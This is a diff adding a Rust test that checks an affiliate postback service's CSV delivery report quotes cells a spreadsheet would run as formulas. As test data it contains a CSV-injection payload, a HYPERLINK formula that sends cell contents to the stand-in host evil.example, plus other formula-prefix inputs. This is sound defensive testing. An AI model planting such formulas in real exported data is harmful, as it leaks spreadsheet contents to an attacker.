@@ -7,7 +7,7 @@ use reqwest::StatusCode;
 use serde_json::{Value, json};
 
 use crate::helpers::{PATIENCE, TOKEN, TestApp};
-use crate::receiver::Receiver;
+use crate::receiver::{Receiver, Reply};
 
 impl TestApp {
     /// The brand's inbound URLs as the admin API shows them.
@@ -462,4 +462,76 @@ async fn the_report_reads_the_same_as_json_pages_and_as_csv() {
             .unwrap()
             .contains("pending_retry")
     );
+}
+
+#[tokio::test]
+async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_as_text() {
+    // Click ids come from whoever holds an inbound URL or reports events; responses from the affiliate's
+    // endpoint. Opened in a spreadsheet, a cell starting with = + - @ tab or CR would be a formula.
+    let receiver = Receiver::start().await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+    receiver.script(
+        "/pb",
+        (0..8).map(|_| Reply {
+            status: 200,
+            body: Some(formula.into()),
+            ..Reply::default()
+        }),
+    );
+    let app = TestApp::spawn().await;
+    app.define(
+        "b1",
+        json!({"name": "reg", "trigger": "registration", "kind": "s2s", "url": receiver.url("/pb?c={clickid}")}),
+    )
+    .await;
+    // The attack and the legitimate values side by side: ordinary ids with - = + inside stay as they are.
+    let cases = [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
+        ("abc-1=+@", "abc-1=+@"),
+    ];
+    let events: Vec<Value> = cases
+        .iter()
+        .enumerate()
+        .map(|(i, (click, _))| json!({"event_id": format!("r{i}"), "type": "registration", "player_id": format!("p{i}"), "params": {"clickid": click}}))
+        .collect();
+    app.report("b1", Value::Array(events)).await;
+    let started = Instant::now();
+    while app.deliveries("status=fired").await.len() < cases.len() {
+        assert!(started.elapsed() < PATIENCE * 2, "the postbacks never fired");
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+
+    let text = app
+        .admin(
+            reqwest::Method::GET,
+            "/api/v1/brands/b1/deliveries?format=csv",
+        )
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|c| c == name).unwrap();
+    let (player, click, response) = (column("player_id"), column("click_id"), column("response"));
+    let mut seen = 0;
+    for row in reader.records().map(Result::unwrap) {
+        let i: usize = row[player][1..].parse().unwrap();
+        assert_eq!(&row[click], cases[i].1, "click id of p{i}");
+        assert_eq!(row[response], format!("'{formula}"), "the endpoint's answer");
+        seen += 1;
+    }
+    assert_eq!(seen, cases.len());
+
+    // The JSON report keeps every value exactly as it arrived: only the CSV is for spreadsheets.
+    let json_row = app.deliveries("player_id=p0").await;
+    assert_eq!(json_row[0]["click_id"], "=1+1");
 }
